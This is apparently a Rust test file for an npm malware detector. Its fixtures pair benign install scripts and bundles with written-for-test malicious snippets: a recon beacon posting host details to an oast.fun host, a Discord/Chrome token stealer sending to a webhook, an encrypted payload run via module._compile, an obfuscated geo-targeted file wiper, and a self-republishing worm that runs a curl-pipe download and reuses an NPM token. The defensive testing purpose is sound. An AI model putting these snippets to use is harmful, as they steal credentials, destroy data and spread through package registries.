//! The JavaScript engine on whole files shaped like the incidents in ALERTS.md and like the
//! popular packages they must not be confused with. Snippets are written for these tests
//! (behaviour, not copies of samples); hosts are under `.example` or are the public services
//! whose use is the behaviour itself.

use ringfence_inspect::js::analyse_file;
use ringfence_inspect::{AlertKind, AlertSeverity};

fn threats(path: &str, source: &str, install_time: bool) -> Vec<(String, AlertSeverity)> {
    let a = analyse_file(path, source, install_time);
    assert!(a.parse_error.is_none(), "{path}: {:?}", a.parse_error);
    a.alerts
        .iter()
        .filter(|x| x.kind == AlertKind::Threat)
        .map(|x| (x.id.to_string(), x.severity))
        .collect()
}

fn has(found: &[(String, AlertSeverity)], id: &str, severity: AlertSeverity) -> bool {
    found.iter().any(|(i, s)| i == id && *s >= severity)
}

#[test]
fn a_postinstall_banner_that_reads_config_from_the_environment_is_clean() {
    let src = r#"
var env = process.env;
var ADBLOCK = is(env.ADBLOCK);
var COLOR = is(env.npm_config_color);
var DISABLE_OPENCOLLECTIVE = is(env.DISABLE_OPENCOLLECTIVE);
var SILENT = ['silent', 'error', 'warn'].indexOf(env.npm_config_loglevel) !== -1;
var OPEN_SOURCE_CONTRIBUTOR = is(env.OPEN_SOURCE_CONTRIBUTOR);
var BANNER = '\u001B[96mThank you for using the project (\u001B[94m https://github.example/project \u001B[96m)\u001B[0m\n' +
  '\u001B[96mThe project needs your help! Donate: \u001B[94m https://opencollective.example/project \u001B[0m\n';
function is(it) { return !!it && it !== '0' && it !== 'false'; }
function isBannerRequired() {
  if (ADBLOCK || DISABLE_OPENCOLLECTIVE || SILENT || OPEN_SOURCE_CONTRIBUTOR) return false;
  var file = require('path').join(require('os').tmpdir(), 'project-banners');
  var banners = [];
  try {
    var DELTA = Date.now() - require('fs').statSync(file).mtime;
    if (DELTA >= 0 && DELTA < 1000 * 60 * 60 * 24 * 7) banners = JSON.parse(require('fs').readFileSync(file, 'utf8'));
    if (banners.indexOf(BANNER) !== -1) return false;
  } catch (error) { banners = []; }
  try { banners.push(BANNER); require('fs').writeFileSync(file, JSON.stringify(banners), 'utf8'); } catch (error) {}
  return true;
}
function showBanner() { console.log(COLOR ? BANNER : BANNER.replace(/\u001B\[\d+m/g, '')); }
if (isBannerRequired()) showBanner();
"#;
    assert_eq!(threats("postinstall.js", src, true), vec![]);
}

#[test]
fn an_installer_that_fetches_its_own_binary_from_the_registry_is_clean() {
    let src = r#"
const fs = require('fs'), path = require('path'), zlib = require('zlib'), https = require('https');
const child_process = require('child_process');
const pkg = require('./package.json');
function fetch(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      if ((res.statusCode === 301 || res.statusCode === 302) && res.headers.location) return fetch(res.headers.location).then(resolve, reject);
      if (res.statusCode !== 200) return reject(new Error(`Server responded with ${res.statusCode}`));
      let chunks = [];
      res.on('data', (chunk) => chunks.push(chunk));
      res.on('end', () => resolve(Buffer.concat(chunks)));
    }).on('error', reject);
  });
}
function extractFileFromTarGzip(buffer, subpath) {
  buffer = zlib.unzipSync(buffer);
  let offset = 0;
  while (offset < buffer.length) {
    let name = buffer.toString('utf8', offset, offset + 100);
    let size = parseInt(buffer.toString('utf8', offset + 124, offset + 136), 8);
    offset += 512;
    if (name === subpath) return buffer.subarray(offset, offset + size);
    offset += (size + 511) & ~511;
  }
  throw new Error(`Could not find ${JSON.stringify(subpath)}`);
}
async function downloadDirectlyFromNPM(pkgName, subpath, binPath) {
  const url = `https://registry.example/${pkgName}/-/${pkgName.replace('@scope/', '')}-${pkg.version}.tgz`;
  fs.writeFileSync(binPath, extractFileFromTarGzip(await fetch(url), subpath));
  fs.chmodSync(binPath, 0o755);
  const stdout = child_process.execFileSync(binPath, ['--version']).toString().trim();
  if (stdout !== pkg.version) throw new Error('Expected ' + pkg.version);
}
downloadDirectlyFromNPM('@scope/linux-x64', 'package/bin/tool', path.join(__dirname, 'bin', 'tool'));
"#;
    assert_eq!(threats("install.js", src, true), vec![]);
}

#[test]
fn a_webpack_development_bundle_with_eval_devtool_is_clean() {
    let src = r#"
(function(modules) {
  var installed = {};
  function __webpack_require__(id) {
    if (installed[id]) return installed[id].exports;
    var module = installed[id] = { i: id, l: false, exports: {} };
    modules[id].call(module.exports, module, module.exports, __webpack_require__);
    return module.exports;
  }
  return __webpack_require__(0);
})([
  (function(module, exports, __webpack_require__) {
    eval("var helper = __webpack_require__(1);\nconsole.log(helper());\n\n//# sourceURL=webpack:///./src/index.js?");
  }),
  (function(module, exports) {
    eval("module.exports = function () { return Function('return this')(); };\n\n//# sourceURL=webpack:///./src/helper.js?");
  })
]);
"#;
    assert_eq!(threats("dist/main.js", src, false), vec![]);
}

#[test]
fn an_install_time_recon_beacon_is_malicious() {
    let src = r#"
const os = require("os");
const dns = require("dns");
const querystring = require("querystring");
const https = require("https");
const packageJSON = require("./package.json");
const trackingData = JSON.stringify({
  p: packageJSON.name, c: __dirname, hd: os.homedir(), hn: os.hostname(),
  un: os.userInfo().username, dns: dns.getServers(), v: packageJSON.version,
});
var postData = querystring.stringify({ msg: trackingData });
var options = { hostname: "c0ffee0123456789abcdef.oast.fun", port: 443, path: "/", method: "POST",
  headers: { "Content-Type": "application/x-www-form-urlencoded", "Content-Length": postData.length } };
var req = https.request(options, (res) => { res.on("data", (d) => process.stdout.write(d)); });
req.on("error", (e) => {});
req.write(postData);
req.end();
"#;
    let found = threats("index.js", src, true);
    assert!(
        has(&found, "dependency-confusion", AlertSeverity::Critical),
        "{found:?}"
    );
    assert!(
        has(&found, "exfil-endpoint", AlertSeverity::Critical),
        "{found:?}"
    );
    let a = analyse_file("index.js", src, true);
    assert!(
        a.urls.iter().any(|u| u.contains("oast.fun")),
        "{:?}",
        a.urls
    );
}

#[test]
fn a_token_stealer_is_malicious_even_without_an_install_hook() {
    let src = r#"
const fs = require('fs'), path = require('path'), os = require('os');
const axios = require('axios');
const targets = ['AppData/Roaming/discord/Local Storage/leveldb', 'AppData/Local/Google/Chrome/User Data/Default/Local Storage/leveldb'];
async function run() {
  const found = [];
  for (const t of targets) {
    const dir = path.join(os.homedir(), t);
    for (const f of fs.readdirSync(dir)) {
      const text = fs.readFileSync(path.join(dir, f), 'utf8');
      for (const m of text.match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g) || []) found.push(m);
    }
  }
  await axios.post('https://discord.com/api/webhooks/1234/abcd', { content: found.join('\n') });
}
run();
"#;
    let found = threats("index.js", src, false);
    assert!(
        has(&found, "credential-file-read", AlertSeverity::Critical),
        "{found:?}"
    );
    assert!(
        has(&found, "exfil-endpoint", AlertSeverity::High),
        "{found:?}"
    );
}

#[test]
fn an_encrypted_payload_loaded_with_module_compile_is_malicious() {
    let src = r#"
var crypto = require('crypto');
var payload = '5f1c7e2a9b0d4c3e8a7f6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c';
var key = process.env.npm_package_description;
if (key) {
  var decipher = crypto.createDecipher('aes256', key);
  var code = decipher.update(payload, 'hex', 'utf8');
  code += decipher.final('utf8');
  var m = new module.constructor();
  m.paths = module.paths;
  m._compile(code, '');
}
"#;
    let found = threats("index.min.js", src, false);
    assert!(
        has(&found, "encoded-eval", AlertSeverity::Critical),
        "{found:?}"
    );
}

#[test]
fn a_geo_gated_wiper_is_malicious() {
    let src = r#"
import path from "path"; import fs from "fs"; import https from "https";
const api = Buffer.from("aHR0cHM6Ly9hcGkuaXBnZW9sb2NhdGlvbi5pby9pcGdlbw==", "base64");
https.get(api.toString("utf8"), function (res) {
  res.on("data", function (d) {
    const field = Buffer.from("Y291bnRyeV9uYW1l", "base64");
    const target = Buffer.from("cnVzc2lh", "base64");
    const root = Buffer.from("Lw==", "base64");
    const country = JSON.parse(d.toString("utf8"))[field.toString("utf8")].toLowerCase();
    const hit = country.includes(target.toString("utf8"));
    if (hit) { walk(root.toString("utf8")); }
  });
});
function walk(dir) {
  for (const name of fs.readdirSync(dir)) {
    const p = path.join(dir, name);
    if (fs.lstatSync(p).isDirectory()) walk(p); else fs.writeFile(p, "\u2764\ufe0f", () => {});
  }
}
"#;
    let found = threats("ssl-geospec.js", src, false);
    assert!(
        has(&found, "geo-targeted", AlertSeverity::High),
        "{found:?}"
    );
    assert!(
        has(&found, "destructive", AlertSeverity::Critical),
        "{found:?}"
    );
}

#[test]
fn a_worm_that_republishes_with_an_install_hook_is_malicious() {
    let src = r#"
const { execSync } = require('child_process');
const fs = require('fs'), path = require('path');
const token = process.env.NPM_TOKEN;
execSync('curl -sSfL https://github.example/trufflehog/releases/download/v3/trufflehog_linux_amd64.tar.gz | tar xz && ./trufflehog filesystem / --json > found.json');
for (const dir of JSON.parse(fs.readFileSync('packages.json', 'utf8'))) {
  const manifest = path.join(dir, 'package.json');
  const pkg = JSON.parse(fs.readFileSync(manifest, 'utf8'));
  pkg.version = bump(pkg.version);
  pkg.scripts = pkg.scripts || {};
  pkg.scripts.postinstall = 'node bundle.js';
  fs.writeFileSync(manifest, JSON.stringify(pkg));
  execSync('npm publish', { cwd: dir, env: { ...process.env, NPM_TOKEN: token } });
}
"#;
    let found = threats("bundle.js", src, true);
    assert!(
        has(&found, "self-propagation", AlertSeverity::Critical),
        "{found:?}"
    );
    assert!(
        has(&found, "secret-scanner", AlertSeverity::Critical),
        "{found:?}"
    );
    assert!(
        has(&found, "download-execute", AlertSeverity::Critical),
        "{found:?}"
    );
}

#[test]
fn urls_in_comments_are_not_iocs_and_literals_are() {
    let a = analyse_file(
        "index.js",
        "// docs: https://docs.example/a\nconst API = 'https://api.example/v1';\n",
        false,
    );
    assert_eq!(a.urls, vec!["https://api.example/v1".to_string()]);
}
